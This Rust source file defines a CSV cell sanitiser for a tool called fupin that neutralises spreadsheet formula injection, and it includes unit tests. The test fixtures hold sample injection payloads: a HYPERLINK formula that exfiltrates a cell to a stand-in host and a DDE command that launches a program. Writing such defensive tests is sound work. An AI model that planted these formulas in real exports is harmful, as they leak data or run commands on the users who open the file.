//! Cells of the CSV files fupin writes (the assessment's outputs, the sample list, a
//! refused import's problem list).

use std::borrow::Cow;

/// A text cell of a CSV that fupin writes, safe to open in a spreadsheet.
///
/// Policy: OWASP CSV injection — a text cell starting with `=`, `+`, `-`, `@`, a tab or a
/// carriage return gets a leading `'`, so Excel and LibreOffice show it as text instead of
/// running it as a formula. Numeric columns (counts, amounts, rates, line numbers) are
/// formatted by fupin from numbers and written as they are, so `-12.50` stays a number.
pub fn text_cell(s: &str) -> Cow<'_, str> {
    match s.as_bytes().first() {
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') => Cow::Owned(format!("'{s}")),
        _ => Cow::Borrowed(s),
    }
}

#[cfg(test)]
mod tests {
    use super::text_cell;

    #[test]
    fn formula_like_text_gets_a_leading_quote() {
        for (cell, safe) in [
            (
                "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"x\")",
                "'=HYPERLINK(\"http://evil.example/?d=\"&A2,\"x\")",
            ),
            (
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "'@SUM(1+1)*cmd|' /C calc'!A0",
            ),
            ("+1", "'+1"),
            ("-1+2", "'-1+2"),
            ("\tTAB", "'\tTAB"),
            ("\rCR", "'\rCR"),
        ] {
            assert_eq!(text_cell(cell), safe);
        }
        for plain in ["示例一乡", "1409300101001", "", "a=b", "数据有误，未评估"] {
            assert_eq!(text_cell(plain), plain);
        }
    }
}
